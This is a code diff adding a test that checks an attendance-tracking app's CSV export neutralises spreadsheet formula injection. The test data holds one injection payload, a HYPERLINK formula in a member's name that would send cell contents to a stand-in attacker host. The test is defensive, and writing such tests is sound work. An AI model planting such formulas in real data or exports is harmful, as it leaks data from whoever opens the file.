@@ -196,3 +196,15 @@ def test_attendance_charts_count_in_whole_numbers(db, setup):
     for count in (by_member, by_week):
         assert count["aggregate"] == "count"
         assert count["axis"]["tickMinStep"] == 1 and count["axis"]["format"] == "d"
+
+
+def test_attendance_csv_keeps_a_formula_written_as_a_name_as_text(db, setup):
+    leader, _, _, sem = setup
+    evil = make_member(db, "evil", '=HYPERLINK("http://evil.example/?"&A1,"click")', by=leader)
+    with db.write() as s:
+        attendance.mark(session=s, by=leader, seminar_id=sem.id, member_id=evil.id, status="present")
+    with db.read() as s:
+        df = attendance.frame(session=s, lang="en")
+    cells = [row.split(",", 3)[3] for row in attendance.to_csv(df, "en").decode("utf-8-sig").splitlines()[1:]]
+    assert any(c.startswith("\"'=HYPERLINK(") for c in cells)
+    assert not any(c.startswith(("=", '"=')) for c in cells)
